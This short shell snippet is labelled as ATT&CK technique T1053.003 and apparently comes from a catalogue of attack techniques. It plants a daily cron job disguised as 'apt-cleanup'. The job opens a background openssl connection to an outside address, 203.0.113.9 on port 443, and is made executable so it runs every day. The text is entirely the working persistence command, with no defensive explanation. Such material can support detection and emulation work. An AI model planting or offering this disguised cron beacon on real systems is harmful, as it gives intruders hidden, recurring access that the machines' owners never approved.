# technique: T1053.003
# location: linux.cron.periodic
# source: /etc/cron.daily/apt-cleanup
printf '#!/bin/sh\nexec /usr/bin/nohup /usr/bin/openssl s_client -quiet -connect 203.0.113.9:443\n' > /etc/cron.daily/apt-cleanup
chmod 755 /etc/cron.daily/apt-cleanup
